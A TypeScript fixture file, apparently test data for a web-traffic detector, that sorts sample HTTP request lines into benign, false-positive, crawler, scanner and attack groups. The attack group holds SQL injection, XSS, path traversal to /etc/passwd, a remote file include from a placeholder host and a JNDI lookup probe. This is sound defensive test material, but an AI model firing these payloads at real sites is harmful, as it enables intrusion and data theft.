/** What visitors ask for where no file says it: our own writing, harmless by content. */
import { type RequestLine, requestLines } from '#rehearsal/site/request-lines.ts';

export const WORDS = [
  'red',
  'garden',
  'lamp',
  'winter',
  'chair',
  'blue',
  'paper',
  'coffee',
  'travel',
  'small',
  'green',
  'music',
];

export const BENIGN = linesOf(`
GET /
GET /search?q={word}&page={n}
GET /product/{n}
GET /product/{n}?from={word}
GET /category/{word}?sort=price
GET /static/app.{n}.js
GET /api/items?page={n}
GET /account
POST /cart item={n}&amount=1
POST /login user={word}{n}&password={word}-{n}
POST /comment text=a+{word}+{word}+for+{word}
POST /api/orders {"item":{n},"note":"{word}"}`);

/** Benign, and taken for an attack: by a word about styles (the guide's own false positive), by English that reads like SQL. */
export const SUSPECTS = linesOf(`
GET /search?q=style%3D{word}&page={n}
POST /comment text=credit+union+members+select+a+{word}
GET /search?q=tips+and+tricks&return=http%3A%2F%2F192.0.2.7%2F{word}`);

export const CRAWLED = linesOf(`
GET /robots.txt
GET /sitemap.xml
GET /product/{n}
GET /category/{word}`);

export const SCANNED = linesOf(`
GET /.env
GET /.git/config
GET /wp-login.php
GET /phpmyadmin/index.php
GET /server-status
GET /backup.bak
GET /cgi-bin/test
GET /admin`);

export const ATTACKS = linesOf(`
GET /search?q=1%27%20or%20%271%27%3D%271
GET /product/{n}?id={n}%20union%20select%20name%20from%20users
GET /search?q=%3Cscript%3Ealert({n})%3C%2Fscript%3E
GET /search?q=%3Cimg%20src%3Dx%20onerror%3Dalert({n})%3E
GET /download?file=../../../../etc/passwd
GET /page?src=http%3A%2F%2F192.0.2.66%2Fx.txt
GET /search?q=%24%7Bjndi%3Aldap%3A%2F%2Fprobe.invalid%2F{n}%7D
POST /login user=admin%27--&password={word}
POST /comment text=%3Csvg%20onload%3Dalert({n})%3E
POST /api/orders {"item":"1 or 1=1 --","note":"{word}"}`);

function linesOf(text: string): RequestLine[] {
  return requestLines(text).lines;
}
